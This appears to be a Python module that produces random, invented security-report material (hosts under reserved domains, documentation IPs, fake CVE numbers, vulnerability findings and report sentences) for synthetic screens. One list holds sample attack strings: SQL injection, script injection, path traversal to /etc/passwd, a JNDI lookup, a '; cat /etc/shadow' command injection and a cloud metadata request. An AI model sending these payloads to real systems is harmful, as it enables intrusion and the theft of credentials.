"""What stands on the drawn screens: addresses, hosts, times, payloads, findings, all invented and drawn at random.

Each function takes a random source (and little else) and returns text. Host names end in reserved domains, product
names are made up, and a CVE number is only a number: none of it is meant to be true.
"""

from __future__ import annotations

from datetime import datetime, timedelta
from random import Random

SEVERITIES = ("Critical", "High", "Medium", "Low", "Info")


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


_SITES = ("corp.example", "lab.test", "intra.example", "north.example.net", "shop.example.com", "plant.example.org")
_ROLES = _words("web db mail vpn dc file print build proxy cam plc jump app cache auth backup dns git wiki")
_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
_WEEK = ("Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun")
_USERS = _words("amara bjorn chen dalia emeka farah goran hana ines jonas keiko liam mbali nadia omar petra")
_AGENTS = ("Browser/118.0 (desktop; x64; rv:118.0)", "Browser/17.2 (phone; arm64)", "fetch/8.4.0", "Agent/2.31 (scan)")
_WORDS = _words(
    "account admin api asset audit basket billing cart catalog checkout cloud config customer dashboard device "
    "document download export feed file health image import inventory invoice job login media message metrics order "
    "page payment plugin policy portal price profile query report role search session setting share status store "
    "sync task team ticket token upload user vendor version webhook"
)
_PAYLOADS = (
    "' OR '1'='1' --",
    "1 UNION SELECT null,version()--",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "${jndi:ldap://{ip}/a}",
    "; cat /etc/shadow",
    "%00.php",
    "http://{ip}/latest/meta-data",
    '"><svg onload=alert(7)>',
    "{{7*7}}",
)
_FINDINGS: tuple[tuple[str, str, float], ...] = (
    ("SQL injection in the {word} parameter", "database statements can be changed by a request", 9.3),
    ("Cross-site scripting in the {word} form", "a page runs a stranger's script in the reader's session", 6.1),
    ("Remote code execution in the {word} service", "an unauthenticated sender can run commands on the host", 9.8),
    ("Outdated TLS version accepted", "old protocol versions allow traffic to be read by an attacker in the path", 5.9),
    ("Default credentials on the {word} console", "the account of the maker's manual still opens the console", 8.8),
    ("Directory listing enabled under /{word}", "the names of all files are shown to anybody who asks", 3.1),
    ("Missing security headers", "browsers are not told to refuse frames, sniffing and plain transport", 2.6),
    ("Path traversal in {word} download", "files outside of the intended folder can be read", 7.5),
    ("Weak password policy for {word} accounts", "short and common passwords are accepted", 4.8),
    ("Server-side request forgery in {word} preview", "the server can be made to call internal addresses", 8.1),
    ("Privilege escalation through {word} role", "an ordinary account can give itself more rights", 7.8),
    ("Expired certificate on {word} endpoint", "clients cannot tell the server from an impostor", 3.7),
    ("Unpatched kernel on {word} hosts", "published faults of the system's core remain open", 7.2),
    ("Verbose error messages in {word} API", "stack traces tell of versions and paths", 0.4),
)


def pick(random: Random, *options: str) -> str:
    """One of the options."""
    return random.choice(options)


def private_address(random: Random) -> str:
    """An IPv4 address of a private network."""
    start = random.choice(("10.{}.{}.{}", "192.168.{}.{}", "172.16.{}.{}", "10.0.{}.{}"))
    return start.format(*(random.randint(1, 254) for _ in range(start.count("{}"))))


def public_address(random: Random) -> str:
    """An IPv4 address of the ranges reserved for documentation."""
    return random.choice(("203.0.113.{}", "198.51.100.{}", "192.0.2.{}")).format(random.randint(1, 254))


def address(random: Random) -> str:
    """An IPv4 address, private or public; now and then an IPv6 address."""
    if random.random() < 0.08:
        return "2001:db8::" + ":".join(f"{random.randrange(65536):x}" for _ in range(random.randint(1, 3)))
    return private_address(random) if random.random() < 0.6 else public_address(random)


def mac(random: Random) -> str:
    """A hardware address."""
    return ":".join(f"{random.randrange(256):02x}" for _ in range(6))


def host(random: Random) -> str:
    """A fully qualified host name."""
    return f"{random.choice(_ROLES)}{random.randint(1, 40):02d}.{random.choice(_SITES)}"


def short_host(random: Random) -> str:
    """A host name without its domain."""
    return f"{random.choice(_ROLES)}-{random.choice(('a', 'b', 'eu', 'us', 'dmz'))}{random.randint(1, 99)}"


def site(random: Random) -> str:
    """A name such as a browser's address bar shows."""
    return f"{random.choice(('www', 'app', 'api', 'portal', 'id', 'static'))}.{random.choice(_SITES)}"


def user(random: Random) -> str:
    """An account's name."""
    return random.choice(_USERS) + random.choice(("", "", ".k", "_adm", "2"))


def word(random: Random) -> str:
    """A word of the trade."""
    return random.choice(_WORDS)


def moment(random: Random) -> datetime:
    """A point in time between 2019 and 2025."""
    return datetime(2019, 1, 1) + timedelta(seconds=random.randrange(7 * 365 * 86400))


def day(of: datetime) -> str:
    """A date in words, in English whatever the locale.

    >>> day(datetime(2024, 5, 3))
    '03 May 2024'
    """
    return f"{of.day:02d} {_MONTHS[of.month - 1]} {of.year}"


def http_date(of: datetime) -> str:
    """A date as headers carry it (RFC 9110, 5.6.7).

    >>> http_date(datetime(2024, 5, 3, 7, 8, 9))
    'Fri, 03 May 2024 07:08:09 GMT'
    """
    return f"{_WEEK[of.weekday()]}, {day(of)} {of:%H:%M:%S} GMT"


def cve(random: Random) -> str:
    """A number in the form of the public list of vulnerabilities."""
    return f"CVE-{random.randint(2014, 2025)}-{random.randint(1000, 49999)}"


def hexadecimal(random: Random, digits: int) -> str:
    """Hexadecimal digits."""
    return f"{random.getrandbits(4 * digits):0{digits}x}"


def payload(random: Random) -> str:
    """What an attacker might send."""
    return random.choice(_PAYLOADS).replace("{ip}", public_address(random))


def path(random: Random) -> str:
    """The path of a web address, often with a query."""
    start = "/" + "/".join(word(random) for _ in range(random.randint(1, 3)))
    ending = random.choice(("", "", ".php", ".json", ".js", ".css", f"/{random.randint(1, 9999)}"))
    query = random.choice(("", "", f"?id={random.randint(1, 9999)}", f"?{word(random)}={payload(random)}"))
    return start + ending + query.replace(" ", "+")


def agent(random: Random) -> str:
    """How a client names itself."""
    return random.choice(_AGENTS)


def finding(random: Random) -> tuple[str, str, float]:
    """A weakness: its title, a clause that says what it means, and its CVSS score (0 to 10)."""
    title, meaning, score = random.choice(_FINDINGS)
    scored = min(10.0, max(0.0, score + random.uniform(-1.2, 1.2)))
    return title.format(word=word(random)), meaning, round(scored, 1)


def paragraph(random: Random, sentences: int) -> str:
    """Prose of a report."""
    return " ".join(_sentence(random) for _ in range(sentences))


def _sentence(random: Random) -> str:
    one, two = finding(random), finding(random)
    return random.choice(
        (
            f"During the review of {host(random)} we found that {one[1]}.",
            f"{one[0]} was confirmed on {random.randint(2, 60)} hosts, where {two[1]}.",
            f"Because {one[1]}, the {word(random)} service should be separated from the {word(random)} network.",
            f"The team of {user(random)} was told on {day(moment(random))} and has begun to repair it.",
            f"An attacker at {address(random)} could use this to reach the {word(random)} data of other customers.",
            f"We recommend an update to version {version(random)} and a change of every {word(random)} secret.",
            f"No sign of misuse was seen in the logs of {short_host(random)} between the two tests.",
        )
    )


def version(random: Random) -> str:
    """A version number."""
    return f"{random.randint(0, 9)}.{random.randint(0, 20)}.{random.randint(0, 30)}"
